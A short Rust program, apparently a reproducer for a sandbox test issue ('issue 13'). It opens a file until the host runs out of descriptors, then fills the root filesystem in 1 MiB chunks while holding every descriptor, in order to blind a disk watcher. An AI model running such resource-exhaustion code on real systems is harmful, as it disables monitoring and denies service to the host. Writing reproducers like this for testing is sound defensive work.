//! Blind the disk watcher (issue 13): open files until the host runs out of descriptors, then
//! write to the rootfs forever while holding them all.
use std::io::Write;
fn main() {
    // Opened first: there is no descriptor left afterwards.
    let mut fill = std::fs::File::create("/fill").expect("create /fill");
    std::fs::write("/hog", b"x").expect("create /hog");
    let mut held = Vec::new();
    while let Ok(f) = std::fs::File::open("/hog") {
        held.push(f);
    }
    println!("holding {} files", held.len());
    let chunk = vec![7u8; 1 << 20];
    while fill.write_all(&chunk).is_ok() {}
    std::process::exit(3);
}
